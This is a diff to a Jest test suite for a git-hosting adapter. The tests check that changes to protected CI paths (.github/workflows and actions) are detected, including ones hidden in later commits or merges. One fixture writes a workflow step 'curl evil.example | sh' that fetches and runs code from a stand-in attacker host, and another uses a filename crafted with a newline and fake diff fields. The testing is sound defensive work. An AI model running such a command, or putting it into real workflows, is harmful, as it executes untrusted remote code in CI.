@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { beforeEach, describe, expect, test } from '@jest/globals';
 import { execa } from 'execa';
 import type { GitHostOptions } from '../../src/adapters/git/git-host.js';
+import { protectedPaths } from '../../src/domain/protected-paths.js';
 import { tipOf } from '../support/branches.js';
 import { freshEachTest } from '../support/fresh-pocket.js';
 import { openGitHost, testFolder } from '../support/git-host.js';
@@ -146,36 +147,39 @@ describe('a bundle', () => {
 });
 
 describe('what only people may change', () => {
-  const refusal = { name: 'OffLimitsError', retry: 'permanent' };
+  const isProtected = protectedPaths([]);
+  /** What is found in the work, of which nothing is known but base. */
+  const changes = async (...known: string[]) => {
+    await bundleOf('HEAD', '^origin/main');
+    const { host } = await openGitHost(p);
+    await host.mirror(p.at);
+    const tip = await host.takeBundle(p.at, bundle, 'HEAD');
+    return host.protectedChanges(p.at, { tip, base: tipOf(p, 'main'), trusted: known, isProtected });
+  };
 
   test.each(['.github/workflows/ci.yml', '.github/actions/setup/action.yml', '.GitHub/Workflows/x.yml'])(
-    'is refused by name: %s',
+    'is found by name: %s',
     async (path) => {
       await commit(clone, 'Work', { 'a.txt': 'a\n', [path]: 'run: curl evil.example | sh\n' });
-      await bundleOf('HEAD', '^origin/main');
-      const { outcome, before, after } = await take();
-      expect(outcome).toMatchObject({ ...refusal, message: expect.stringContaining(path) });
-      expect(after).toEqual(before);
+      expect(await changes()).toEqual([path]);
     },
   );
 
-  test('is refused in any commit, though a later one takes it back', async () => {
+  test('is found in any commit, though a later one takes it back', async () => {
     await commit(clone, 'Sneak', { '.github/workflows/ci.yml': 'x\n' });
     await git(clone, 'rm', '--quiet', '.github/workflows/ci.yml');
     await commit(clone, 'Hide', { 'a.txt': 'a\n' });
-    await bundleOf('HEAD', '^origin/main');
-    expect((await take()).outcome).toMatchObject(refusal);
+    expect(await changes()).toEqual(['.github/workflows/ci.yml']);
   });
 
-  test('is refused in a merge that slips it in between its sides', async () => {
+  test('is found in a merge that slips it in between its sides', async () => {
     const before = await git(clone, 'rev-parse', 'HEAD');
     await commit(clone, 'One side', { 'a.txt': 'a\n' });
     await git(clone, 'checkout', '--quiet', '-b', 'other', before);
     await commit(clone, 'The other', { 'b.txt': 'b\n' });
     await git(clone, 'merge', '--quiet', '--no-commit', '--no-ff', 'main');
     await commit(clone, 'Merge', { '.github/workflows/ci.yml': 'x\n' });
-    await bundleOf('HEAD', '^origin/main');
-    expect((await take()).outcome).toMatchObject(refusal);
+    expect(await changes()).toEqual(['.github/workflows/ci.yml']);
   });
 
   test('may come in from the base branch, and work beside it is taken', async () => {
@@ -183,10 +187,14 @@ describe('what only people may change', () => {
     await commit(clone, 'Landed meanwhile', { '.github/workflows/ci.yml': 'by a person\n' });
     await git(clone, 'push', '--quiet', 'origin', 'HEAD:main');
     await git(clone, 'checkout', '--quiet', '-b', 'work', before);
-    await commit(clone, 'Work', { '.github/CODEOWNERS': '* @ada\n' });
+    await commit(clone, 'Work', { 'a.txt': 'a\n' });
     await git(clone, 'merge', '--quiet', '--no-edit', 'main');
-    const oid = await git(clone, 'rev-parse', 'HEAD');
-    await bundleOf('HEAD', '^origin/main');
-    expect((await take()).outcome).toBe(oid);
+    expect(await changes()).toEqual([]);
+  });
+
+  test('names paths whatever they are called', async () => {
+    const odd = '.github/a\nb c"\t:100644 000000 x y D';
+    await commit(clone, 'Work', { [odd]: 'x\n' });
+    expect(await changes()).toEqual([odd]);
   });
 });
